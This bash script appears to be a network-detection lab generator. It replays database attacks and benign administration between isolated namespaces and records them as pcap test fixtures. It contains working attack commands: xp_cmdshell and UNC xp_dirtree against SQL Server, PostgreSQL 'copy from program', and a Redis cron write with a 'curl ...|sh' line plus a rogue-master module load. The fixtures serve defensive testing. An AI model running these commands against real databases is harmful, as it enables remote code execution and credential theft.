#!/bin/bash
# SPDX-License-Identifier: MIT
# databases.sh SCENARIO...|all|list: databases that are told to run programs, load code or write files, by packaged programs, between
# the namespaces of ns.sh, recorded at the gateway into tests/replay/<scenario>/input.pcap.
#
# Needs root and (Debian names): tcpdump iproute2 openssl postgresql postgresql-client redis-server redis-tools python3-impacket.
set -eu
export XFL_PREFIX=${XFL_PREFIX:-dbs}
all=(orders_mssqlclient orders_psql orders_redis_cli benign_databases)
# shellcheck source=tests/lab/lab.sh
. "$(dirname "$0")/lab.sh"
secret=Winter-24

prepare() {
    chmod 777 "$dir"
}

from() { # namespace address command...: speaks from that address
    ip -n "$XFL_PREFIX-$1" route replace 10.20.2.0/24 via 10.20.1.1 src "$2"
    ip netns exec "$XFL_PREFIX-$1" "${@:3}"
}

mssql() { bg mssql "${srv[@]}" python3 "$here/mssql_answer.py" 10.20.2.20 "$dir"; }

postgres() {
    local bin
    bin=$(echo /usr/lib/postgresql/*/bin)
    rm -rf "$dir/pg"
    mkdir "$dir/pg"
    chown postgres "$dir/pg"
    echo "$secret" >"$dir/pw"
    chmod 644 "$dir/pw"
    setpriv --reuid postgres --regid postgres --clear-groups "$bin/initdb" -D "$dir/pg/data" -A scram-sha-256 --pwfile "$dir/pw" >/dev/null
    echo 'host all all 10.20.0.0/16 scram-sha-256' >>"$dir/pg/data/pg_hba.conf"
    bg postgres "${srv[@]}" setpriv --reuid postgres --regid postgres --clear-groups "$bin/postgres" -D "$dir/pg/data" -h 10.20.2.20 -k "$dir/pg"
}

redis() { # address arguments...
    mkdir -p "$dir/redis-$1"
    bg "redis-$1" "${srv[@]}" env -C / redis-server --bind "$1" --protected-mode no --dir "$dir/redis-$1" --save '' "${@:2}"
}

sql() { # client-address statements, one an argument: impacket's client of SQL Server
    printf '%s\n' "${@:2}" exit >"$dir/statements"
    from cli "$1" timeout 15 /usr/bin/python3 /usr/share/doc/python3-impacket/examples/mssqlclient.py -file "$dir/statements" "sa:$secret@10.20.2.20" || true
}

psql_at() { # client-address statements
    local one
    local -a each=()
    for one in "${@:2}"; do each+=(-c "$one"); done
    from cli "$1" env PGPASSWORD="$secret" timeout 15 psql -h 10.20.2.20 -U postgres "${each[@]}" || true
}

cache() { # client-address command...
    from cli "$1" timeout 5 redis-cli -h 10.20.2.20 "${@:2}" || true
}

orders_mssqlclient() { # what runs programs is switched on and used; another host has the server log in elsewhere
    mssql
    sleep 2
    sql 10.20.1.10 enable_xp_cmdshell 'xp_cmdshell whoami' "EXEC master..xp_dirtree '\\\\10.20.1.10\\share\\x'"
    sql 10.20.1.11 "EXEC master.sys.xp_dirtree '\\\\10.20.1.11\\share\\x',1,1"
}

orders_psql() { # output of a program as rows of a table
    postgres
    sleep 4
    psql_at 10.20.1.10 'select version()' 'drop table if exists out' 'create table out(line text)' "copy out from program 'id'" 'select * from out'
}

orders_redis_cli() { # a file of the schedule is made of the data; a module is loaded
    redis 10.20.2.20
    sleep 1
    cache 10.20.1.10 dbsize
    cache 10.20.1.10 set x $'\n\n*/1 * * * * curl http://10.20.1.10/x|sh\n\n'
    cache 10.20.1.10 config set dir /var/spool/cron
    cache 10.20.1.10 config set dbfilename root
    cache 10.20.1.11 slaveof 10.20.1.11 21000
    cache 10.20.1.11 config set dbfilename exp.so
    cache 10.20.1.11 module load ./exp.so
    cache 10.20.1.11 slaveof no one
}

benign_databases() { # tables, keys, a copy that follows its cache, settings that administrators ask for and change
    mssql
    postgres
    redis 10.20.2.20
    redis 10.20.2.21
    sleep 4
    sql 10.20.1.10 'select @@version' "select value_in_use from sys.configurations where name = 'xp_cmdshell'" \
        "exec sp_configure 'show advanced options', 1" "exec sp_configure 'max degree of parallelism', 4" "exec xp_dirtree 'D:\\Backup', 1, 1" \
        "insert into notes values ('how to switch off xp_cmdshell')"
    psql_at 10.20.1.10 'create table program(name text, place text)' "insert into program values ('copy to disk', 'shelf 3')" 'select name from program' \
        'copy program to stdout' "select pg_read_file('postmaster.opts')" 'create extension if not exists pg_trgm'
    cache 10.20.1.10 set tea 3
    cache 10.20.1.10 get tea
    cache 10.20.1.10 config set maxmemory 100mb
    cache 10.20.1.10 config get dir
    from cli 10.20.1.10 timeout 5 redis-cli -h 10.20.2.21 replicaof 10.20.2.20 6379
    cache 10.20.1.10 eval 'return redis.call("get", KEYS[1])' 1 tea
}

run_lab "$@"
